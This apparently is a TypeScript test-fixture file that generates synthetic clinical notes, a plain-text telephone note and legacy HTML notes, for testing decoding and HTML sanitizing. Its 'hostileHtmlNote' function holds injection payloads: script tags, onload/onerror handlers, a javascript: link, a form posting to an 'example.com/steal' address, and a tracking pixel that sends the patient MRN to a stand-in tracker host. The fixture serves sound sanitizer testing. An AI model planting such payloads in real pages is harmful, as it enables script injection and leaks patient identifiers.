/** Non-CDA clinical notes: a UTF-8 plain-text note and legacy HTML notes as Oracle Health Soarian returns them. */
import type { LocalMoment } from "./hl7-time";
import { narrativeDate } from "./hl7-time";
import type { PatientProfile, PractitionerProfile } from "./profiles";
import { formatName } from "./profiles";
import { escapeText } from "./xml-writer";

/** A telephone note with non-ASCII text (umlauts, dashes, degree and ≥ signs) that must survive decoding. */
export function plainTextNote(
  patient: PatientProfile,
  author: PractitionerProfile,
  when: LocalMoment,
): string {
  const med = patient.medications[0]?.code.display ?? "current medication";
  return [
    `TELEPHONE ENCOUNTER — ${narrativeDate(when)}`,
    `Patient: ${formatName(patient.name)}   MRN: ${patient.mrn}`,
    `Caller: Müller Apotheke (pharmacist Jürgen Müller) re: refill of ${med}.`,
    "",
    "Note from pharmacist Müller — 5 mg strength of the new prescription is back-ordered; advised to keep the current dose.",
    "Patient reports temperature 37.9 °C yesterday, none today; advised to call if ≥ 38.5 °C.",
    "Smart quotes “as written” and an ellipsis… are intentional.",
    "",
    `Signed: ${formatName(author.name)}`,
    "",
  ].join("\r\n");
}

const STYLE =
  "BODY,TD,TH{font-family:Arial,Helvetica;font-size:10pt} .HDR{font-weight:bold;background:#DDDDDD}";

function headerRows(patient: PatientProfile, author: PractitionerProfile, when: LocalMoment): string {
  const row = (label: string, value: string) =>
    `<TR><TD CLASS="HDR">${label}</TD><TD>${escapeText(value)}</TD></TR>`;
  return `<TABLE BORDER=1 CELLPADDING=2>${row("Patient", formatName(patient.name))}${row("MRN", patient.mrn)}${row("Date", narrativeDate(when))}${row("Author", formatName(author.name))}</TABLE>`;
}

/** A benign legacy note: upper-case tags, <FONT>, inline style, a table. */
export function benignHtmlNote(
  patient: PatientProfile,
  author: PractitionerProfile,
  when: LocalMoment,
): string {
  const problems = patient.problems
    .filter((p) => p.status === "active")
    .map((p) => `<LI>${escapeText(p.code.display)}</LI>`)
    .join("");
  return [
    `<HTML><HEAD><style type="text/css">${STYLE}</style></HEAD><BODY>`,
    headerRows(patient, author, when),
    `<P><FONT SIZE=4 COLOR="#003366"><B>Nursing Progress Note</B></FONT></P>`,
    `<P STYLE="margin-left:20px">Patient resting comfortably. Vital signs stable. Tolerating diet. <U>Ambulated</U> in hallway twice with standby assist.</P>`,
    `<P><B>Active problems</B></P><UL>${problems}</UL>`,
    `<P><I>Plan:</I> continue current orders; reassess pain every 4 hours.<BR>Fall precautions in place.</P>`,
    `</BODY></HTML>`,
  ].join("\n");
}

/** A note carrying what a sanitizer must remove: script, event handlers, remote image, javascript: link. */
export function hostileHtmlNote(
  patient: PatientProfile,
  author: PractitionerProfile,
  when: LocalMoment,
): string {
  return [
    `<HTML><HEAD><style type="text/css">${STYLE} BODY{background:url(https://tracker.example.com/bg.png)}</style>`,
    `<script>alert("note-script")</script></HEAD><BODY onload="alert('onload')">`,
    headerRows(patient, author, when),
    `<P><FONT SIZE=4><B>Consultation Note (imported)</B></FONT></P>`,
    `<P>Reviewed outside records. Recommend continuing current therapy and repeat labs in 3 months.</P>`,
    `<IMG SRC="x" ONERROR="alert('onerror')" ALT="broken image">`,
    `<IMG SRC="https://tracker.example.com/pixel.gif?mrn=${patient.mrn}" WIDTH=1 HEIGHT=1 ALT="">`,
    `<P STYLE="position:fixed;top:0;left:0;width:100%;background:red;color:white">Inline-styled banner text.</P>`,
    `<P><A HREF="javascript:alert('link')">Open attachment</A> | <A HREF="https://example.org/records">Outside records portal</A></P>`,
    `<IFRAME SRC="https://example.com/embed"></IFRAME><FORM ACTION="https://example.com/steal"><INPUT NAME="q"></FORM>`,
    `</BODY></HTML>`,
  ].join("\n");
}
